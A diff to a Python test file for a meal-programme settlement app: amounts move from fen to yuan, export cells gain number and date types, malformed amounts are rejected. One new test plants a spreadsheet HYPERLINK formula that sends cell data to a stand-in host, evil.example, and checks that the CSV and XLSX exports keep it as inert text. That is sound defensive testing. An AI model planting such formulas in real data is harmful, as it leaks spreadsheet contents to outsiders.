@@ -38,7 +38,7 @@ async def _adjust(browser, pid: int, agreement_id: int, month, amount: str, reas
         "_csrf_token": await csrf_token(browser),
         "agreement_id": str(agreement_id),
         "month": _m(month),
-        "amount_fen": amount,
+        "amount_yuan": amount,
         "reason": reason,
     }
     return await browser.post(f"/settlement/{pid}/adjustments", data=data)
@@ -116,8 +116,15 @@ async def test_csv_and_xlsx_list_one_row_per_paid_meal_with_safe_file_names(
     data = list(sheet.iter_rows(min_row=2, values_only=True))
     assert len(data) == 4  # one row per approved meal of the month, nothing else
     assert [r[5] for r in data] == [c.id for c in made[:4]] and [r[9] for r in data] == [1500, 1500, 1000, 0]
+    # Typed cells, so sums and filters work in Excel and WPS: numbers, real dates, yuan with two places.
+    assert [r[10] for r in data] == [15, 15, 10, 0]
+    assert [r[3].date() for r in data] == [c.day for c in made[:4]]  # a date cell, read back as datetime
+    assert all(r[8] is not None and r[8].year == made[0].day.year for r in data)  # reviewed at, a time
     summary = dict(book["Summary"].iter_rows(values_only=True))
-    assert summary["Total (fen)"] == 4000 and summary["Total (yuan)"] == "40.00"
+    assert summary["Total (fen)"] == 4000 and summary["Total (yuan)"] == 40
+    styled = openpyxl.load_workbook(io.BytesIO(xlsx.content))["Meals"]
+    assert styled["K2"].number_format == "#,##0.00" and styled["D2"].number_format == "yyyy-mm-dd"
+    assert styled.column_dimensions["C"].width >= 12
     assert "钱" not in xlsx.headers["content-disposition"]
 
 
@@ -196,9 +203,12 @@ async def test_a_closed_month_refuses_writes_through_every_route(
     fix = {**body, "day": made[1].day.isoformat(), "replaces_id": made[1].id}
     refused_fix = await meals_support.put_checkin(neighbour, fix)
     assert refused_fix.status_code == 409 and "结算" in refused_fix.json()["detail"]
-    assert (await _adjust(staff, pid, agreement.id, last_month(), "-1500", "重复")).status_code == 409
-    assert (await _adjust(staff, pid, agreement.id, this_month(), "-1500", "上月重复一餐")).status_code == 303
+    assert (await _adjust(staff, pid, agreement.id, last_month(), "-15", "重复")).status_code == 409
+    assert (await _adjust(staff, pid, agreement.id, this_month(), "-15", "上月重复一餐")).status_code == 303
     assert (await _adjust(staff, pid, agreement.id, this_month(), "15.5", "")).status_code == 400
+    for bad in ("15.555", "1e9", "abc", "0", "1,500"):
+        refused = await _adjust(staff, pid, agreement.id, this_month(), bad, "试一试")
+        assert refused.status_code == 400 and "最多两位小数" in refused.text, bad
     async with database.transaction(read_only=True) as db:
         assert await db.scalar(select(func.count(LedgerLine.id))) == 2
         fixed = await db.get_one(CheckIn, made[1].id)
@@ -234,3 +244,33 @@ async def test_a_statement_per_neighbour_covers_her_agreements_only(
         f"/settlement/{qian.programme_id}/statement", params={**params, "neighbour": "999999"}
     )
     assert nobody.status_code == 200 and "钱老伯" not in nobody.text
+
+
+async def test_a_reason_that_looks_like_a_formula_stays_text_in_the_csv_and_the_xlsx(
+    client_as: ClientAs, world: World, database: Database
+) -> None:
+    agreement = await meals_support.agreement_of(database, world.person_id("qian"))
+    staff = await client_as(personas.STAFF)
+    pid = agreement.programme_id
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点这里")'
+    added = await _adjust(staff, pid, agreement.id, this_month(), "-7.5", formula)
+    assert added.status_code == 303
+    month = _m(this_month())
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                (await staff.get(f"/settlement/{pid}/statement.csv", params={"month": month})).content.decode(
+                    "utf-8-sig"
+                )
+            )
+        )
+    )
+    [line] = [r for r in rows if r[12].endswith(formula)]
+    assert line[12] == "'" + formula and line[10] == "-750" and line[11] == "-7.50"
+    xlsx = await staff.get(f"/settlement/{pid}/statement.xlsx", params={"month": month})
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).worksheets[1]
+    [cell] = [c for c in sheet["G"] if c.value == formula]
+    assert cell.data_type == "s"
+    assert (
+        sheet.cell(row=cell.row, column=5).value == -750 and sheet.cell(row=cell.row, column=6).value == -7.5
+    )
